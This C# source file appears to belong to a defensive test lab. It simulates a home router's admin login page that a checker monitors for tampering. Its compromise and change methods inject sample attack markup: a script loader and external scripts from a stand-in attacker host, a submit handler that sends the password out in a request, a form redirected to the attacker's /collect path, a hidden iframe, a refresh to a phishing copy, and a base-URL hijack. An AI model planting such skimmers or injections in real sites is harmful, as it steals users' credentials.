using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using FlaxGuard.Lab.Twins;

namespace FlaxGuard.Lab;

/// <summary>
/// A small home router's admin web interface, on loopback: a login page that links a script and a
/// stylesheet, a self-signed HTTPS certificate, per-visit session cookies (noise the checker must ignore).
/// <see cref="CompromiseAsync"/> does what a botnet implant does to such a device: it tampers with the
/// web interface script and opens a telnet port.
/// </summary>
/// <para>
/// It is also the "web" lab twin (<see cref="ILabTwin"/>) of issue 13's page tampering: its login page writes a
/// config script with a per-visit CSRF token, CSP nonce and timestamp (churn the checker must ignore), and
/// <see cref="Apply"/> injects an inline script, a script or an iframe from another site, or points the login
/// form at another site, as attackers do to camera and router admin pages.
/// </para>
public sealed class LabWebDevice : ILabTwin
{
    public const int DefaultTelnetPort = 2323;
    private const string CleanScript = "// Lab router admin UI 2.1.7\nfunction login(f){ return f.user.value.length > 0; }\n";
    private const string InjectedScript = "\n;(function(){var s=document.createElement('script');s.src='http://203.0.113.66/x.js';document.head.appendChild(s);})();\n";
    private const string Stylesheet = "body{font-family:sans-serif;background:#f4f4f4}form{margin:4em auto;width:20em}\n";

    /// <summary>Where injected content comes from (RFC 5737 documentation address; never contacted).</summary>
    public const string AttackerHost = "203.0.113.66";

    private readonly WebApplication _app;
    private readonly object _gate = new();
    private volatile string _script = CleanScript;
    private readonly HashSet<string> _applied = [];
    private TimeSpan _clockOffset;
    private DateTimeOffset _boot = DateTimeOffset.UtcNow.AddHours(-50);
    private LabTelnetListener? _telnet;

    private LabWebDevice(WebApplication app, IPAddress address, byte[] certificateSha256)
    {
        _app = app;
        Address = address;
        CertificateSha256 = certificateSha256;
    }

    /// <summary>SHA-256 of the DER certificate the HTTPS endpoint presents.</summary>
    public byte[] CertificateSha256 { get; }

    /// <summary>The script the admin page links to, as served right now.</summary>
    public string Script => _script;

    public IPAddress Address { get; }

    public int HttpPort { get; private set; }

    public int HttpsPort { get; private set; }

    public int? TelnetPort => _telnet?.Port;

    public bool Compromised { get; private set; }

    /// <summary>Starts the device on <paramref name="address"/>; port 0 picks free ports.</summary>
    public static async Task<LabWebDevice> StartAsync(IPAddress address, int httpPort = 0, int httpsPort = 0, CancellationToken token = default)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        var certificate = CreateCertificate();
        builder.WebHost.ConfigureKestrel(kestrel =>
        {
            kestrel.AddServerHeader = false;
            kestrel.Listen(address, httpPort);
            kestrel.Listen(address, httpsPort, listen => listen.UseHttps(certificate));
        });
        var app = builder.Build();
        var device = new LabWebDevice(app, address, SHA256.HashData(certificate.RawData));
        device.MapRoutes();
        await app.StartAsync(token);
        var addresses = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses;
        foreach (var url in addresses.Select(a => new Uri(a)))
        {
            if (url.Scheme == Uri.UriSchemeHttps) device.HttpsPort = url.Port;
            else device.HttpPort = url.Port;
        }
        return device;
    }

    /// <summary>Tampers with the admin script and opens a telnet listener, as an implant would.</summary>
    public Task CompromiseAsync(int telnetPort = DefaultTelnetPort)
    {
        _script = CleanScript + InjectedScript;
        _telnet ??= new LabTelnetListener(Address, telnetPort);
        Compromised = true;
        return Task.CompletedTask;
    }

    /// <summary>Undoes <see cref="CompromiseAsync"/>, as a factory reset would.</summary>
    public async Task RestoreAsync()
    {
        _script = CleanScript;
        if (_telnet is not null) await _telnet.DisposeAsync();
        _telnet = null;
        Compromised = false;
    }

    public string Profile => "web";

    public Uri BaseUri => new($"http://{(Address.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6 ? "[" + Address + "]" : Address.ToString())}:{HttpPort}/");

    public IReadOnlyList<string> SupportedChanges { get; } =
        [.. TwinChanges.WebCompromises, TwinChanges.Reboot, TwinChanges.Time, TwinChanges.Session, TwinChanges.Reorder, TwinChanges.WhitespaceCase];

    public void Apply(string change)
    {
        if (!SupportedChanges.Contains(change)) throw new NotSupportedException($"the lab web device has no change named '{change}'");
        lock (_gate)
        {
            switch (change)
            {
                case TwinChanges.Time:
                    _clockOffset += TimeSpan.FromHours(7) + TimeSpan.FromSeconds(13);
                    break;
                case TwinChanges.Reboot:
                    _boot = DateTimeOffset.UtcNow;
                    break;
                default:
                    _applied.Add(change);
                    break;
            }
        }
    }

    public void Reset()
    {
        lock (_gate)
        {
            _applied.Clear();
            _clockOffset = TimeSpan.Zero;
            _boot = DateTimeOffset.UtcNow.AddHours(-50);
        }
        _script = CleanScript;
    }

    public async ValueTask DisposeAsync()
    {
        if (_telnet is not null) await _telnet.DisposeAsync();
        await _app.StopAsync();
        await _app.DisposeAsync();
    }

    private void MapRoutes()
    {
        _app.Use(async (context, next) =>
        {
            context.Response.Headers.Server = "lighttpd/1.4.59";
            await next(context);
        });
        _app.MapGet("/", (HttpContext context) =>
        {
            // A fresh session id on every visit: exactly the kind of value drift detection must not report.
            context.Response.Headers.SetCookie = "sid=" + Convert.ToHexString(RandomNumberGenerator.GetBytes(8)) + "; HttpOnly";
            return Results.Content(LoginPage(), "text/html; charset=utf-8");
        });
        _app.MapGet("/js/app.js", () => Results.Text(_script, "application/javascript", Encoding.UTF8));
        _app.MapGet("/css/style.css", () => Results.Text(Stylesheet, "text/css", Encoding.UTF8));
    }

    /// <summary>
    /// The login page as served now: a per-visit CSRF token (base64), CSP nonce (hex), the clock and the uptime in the
    /// config script change on every load; the applied changes add what an intruder injects.
    /// </summary>
    private string LoginPage()
    {
        HashSet<string> applied;
        DateTimeOffset now, boot;
        lock (_gate)
        {
            applied = [.. _applied];
            now = DateTimeOffset.UtcNow + _clockOffset;
            boot = _boot;
        }
        var nonce = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16));
        var csrf = Convert.ToBase64String(RandomNumberGenerator.GetBytes(24));
        bool sloppy = applied.Contains(TwinChanges.WhitespaceCase);
        string Tag(string name) => sloppy ? name.ToUpperInvariant() : name;
        string nl = sloppy ? "\r\n\t  " : "\n";
        var config = $"<{Tag("script")} nonce=\"{nonce}\">{nl}  window.labConfig = {{ csrf: \"{csrf}\", now: {now.ToUnixTimeMilliseconds()}, " +
                     $"stamp: \"{now.UtcDateTime:yyyy-MM-ddTHH:mm:ssZ}\", uptime: {(long)(DateTimeOffset.UtcNow - boot).TotalSeconds}, model: \"AX1800\" }};{nl}</{Tag("script")}>";
        var theme = $"<{Tag("script")}>{nl}document.documentElement.className = 'js';{nl}</{Tag("script")}>";
        var scripts = new List<string> { config, theme };
        if (applied.Contains(TwinChanges.InlineScript))
            scripts.Add($"<script>document.addEventListener('submit', function (e) {{ new Image().src = '/favicon.ico?' + btoa(e.target.pass.value); }});</script>");
        if (applied.Contains(TwinChanges.ExternalScript)) scripts.Add($"<script src=\"http://{AttackerHost}/x.js\"></script>");
        // Issue 13's second round: what injectors put in pages besides <script> (Magecart-style handlers, plugins,
        // preloads, a refresh to a phishing copy, a base URL that moves every relative script to another site).
        if (applied.Contains(TwinChanges.EventHandler))
            scripts.Add("<img src=\"/img/logo.png\" alt=\"\" onerror=\"var s=document.createElement('script');s.src='//' + 'cdn-upd.example/u.js';document.head.appendChild(s)\">");
        if (applied.Contains(TwinChanges.ExternalObject)) scripts.Add($"<embed src=\"http://{AttackerHost}/p.swf\" width=\"1\" height=\"1\">");
        if (applied.Contains(TwinChanges.CodePreload)) scripts.Add($"<link rel=\"preload\" as=\"script\" href=\"https://{AttackerHost}/app.js\">");
        if (applied.Contains(TwinChanges.RefreshRedirect)) scripts.Add($"<meta http-equiv=\"Refresh\" content=\"3; URL='https://{AttackerHost}/login'\">");
        if (applied.Contains(TwinChanges.BaseHijack)) scripts.Insert(0, $"<base href=\"https://{AttackerHost}/\">");
        if (applied.Contains(TwinChanges.Reorder)) scripts.Reverse();
        var action = applied.Contains(TwinChanges.FormHijack) ? $" action=\"https://{AttackerHost}/collect\" method=\"post\"" : " action=\"/login\" method=\"post\"";
        var frame = applied.Contains(TwinChanges.ExternalFrame) ? $"<iframe src=\"https://{AttackerHost}/ad\" width=\"0\" height=\"0\" style=\"display:none\"></iframe>" : "";
        return $"<!DOCTYPE html>{nl}<{Tag("html")}><{Tag("head")}><meta charset=\"utf-8\">{nl}<{Tag("title")}>Lab Router AX1800 &amp; Wi-Fi - Login</{Tag("title")}>{nl}" +
               $"<link rel=\"stylesheet\" href=\"/css/style.css\">{nl}<{Tag("script")} src=\"/js/app.js\"></{Tag("script")}>{nl}{string.Join(nl, scripts)}{nl}</{Tag("head")}>{nl}" +
               $"<{Tag("body")}><{Tag("form")}{action} onsubmit=\"return login(this)\"><input name=\"user\"><input name=\"csrf\" type=\"hidden\" value=\"{csrf}\">" +
               $"<input name=\"pass\" type=\"password\"><button>Log in</button></{Tag("form")}>{frame}</{Tag("body")}></{Tag("html")}>\n";
    }

    private static X509Certificate2 CreateCertificate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=labrouter.local, O=FlaxGuard Lab", key, HashAlgorithmName.SHA256);
        var now = DateTimeOffset.UtcNow;
        using var cert = request.CreateSelfSigned(now.AddDays(-1), now.AddYears(1));
        // Kestrel needs the key in a form it can use on every platform; a PKCS#12 round trip gives that.
        return X509CertificateLoader.LoadPkcs12(cert.Export(X509ContentType.Pkcs12), null);
    }
}
